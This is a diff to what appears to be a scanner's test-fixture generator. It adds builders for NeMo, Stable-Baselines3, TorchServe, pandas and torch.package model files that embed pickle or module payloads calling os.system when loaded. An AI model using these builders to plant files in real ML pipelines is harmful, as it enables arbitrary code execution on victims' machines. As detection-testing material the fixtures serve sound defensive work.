@@ -1478,6 +1478,89 @@ def _(t):
     return torchscript(f'torch.from_file("{marker(t)}", True, 1)')
 
 
+# ----- F. PyTorch-family containers: the payload where their loader unpickles -----
+
+
+def nemo_tar(weights, config=b"target: nemo.collections.asr.models.EncDecCTCModel\n"):
+    """A .nemo as NeMo's SaveRestoreConnector writes it: an uncompressed tar
+    whose members are named "./NAME"."""
+    return tar_bytes([("./model_config.yaml", config), ("./model_weights.ckpt", weights)])
+
+
+def sb3_zip(tech):
+    """A Stable-Baselines3 save whose `data` JSON carries the payload as the
+    base64 cloudpickle of its policy class."""
+    import base64
+    payload = proto(2) + system_call(tech) + STOP
+    data = json.dumps({"policy_class": {":type:": "<class 'abc.ABCMeta'>",
+                                        ":serialized:": base64.b64encode(payload).decode()},
+                       "n_envs": 1}).encode()
+    return build_zip([dict(name="data", data=data),
+                      dict(name="policy.pth", data=torch_zip(pickle.dumps({}, protocol=2), prefix="policy")),
+                      dict(name="_stable_baselines3_version", data=b"2.9.2")])
+
+
+def mar_zip(tech):
+    """A TorchServe .mar whose serialized model file carries the payload."""
+    manifest = json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python",
+                           "model": {"modelName": "tiny", "serializedFile": "weights.pt",
+                                     "handler": "image_classifier", "modelVersion": "1.0"},
+                           "archiverVersion": "0.12.0"}).encode()
+    weights = torch_zip(side_effect_then(tech, {}))
+    return build_zip([dict(name="weights.pt", data=weights),
+                      dict(name="MAR-INF/MANIFEST.json", data=manifest)])
+
+
+FAMILY = "https://github.com/pytorch/pytorch/security/policy (models are programs)"
+
+
+@fixture("pandas-zip", "pandas.read_pickle", FAMILY,
+         "pandas.read_pickle on a .zip: the single member is unpickled", filename="pandas-zip.pkl.zip")
+def _(t):
+    return build_zip([dict(name="frame.pkl", data=proto(2) + system_call(t) + STOP)])
+
+
+@fixture("pandas-tar-gz", "pandas.read_pickle", FAMILY,
+         "pandas.read_pickle on a .tar.gz: the single member of the tar is unpickled",
+         filename="pandas-tar-gz.pkl.tar.gz")
+def _(t):
+    return gzip.compress(tar_bytes([("frame.pkl", proto(2) + system_call(t) + STOP)]), mtime=0)
+
+
+@fixture("nemo-weights", "nemo.restore-weights", FAMILY,
+         "a .nemo whose model_weights.ckpt runs the payload when restore_from torch.loads it",
+         filename="nemo-weights.nemo")
+def _(t):
+    return nemo_tar(torch_zip(side_effect_then(t, {})))
+
+
+@fixture("sb3-data", "sb3.load_from_zip_file", FAMILY,
+         "a Stable-Baselines3 zip whose data JSON holds a cloudpickle payload (:serialized:)",
+         filename="sb3-data.zip")
+def _(t):
+    return sb3_zip(t)
+
+
+@fixture("torchserve-weights", "torchserve.serialized-file", FAMILY,
+         "a TorchServe .mar whose serialized model file runs the payload when the handler torch.loads it",
+         filename="torchserve-weights.mar")
+def _(t):
+    return mar_zip(t)
+
+
+@fixture("torch-package-import", "torch.package", FAMILY,
+         "a torch.package whose packaged module runs the payload when load_pickle imports it",
+         filename="torch-package-import.pt")
+def _(t):
+    p = "torch-package-import"
+    module = f"import os\nos.system({sh(t)!r})\n\n\nclass Thing:\n    pass\n".encode()
+    return build_zip([dict(name=f"{p}/model/model.pkl", data=proto(2) + global_("evil", "Thing") + b")\x81" + STOP),
+                      dict(name=f"{p}/evil.py", data=module),
+                      dict(name=f"{p}/.data/extern_modules", data=b"os\n"),
+                      dict(name=f"{p}/.data/version", data=b"6\n"),
+                      dict(name=f"{p}/byteorder", data=b"little")])
+
+
 # ---------------------------------------------------------------------------
 
 
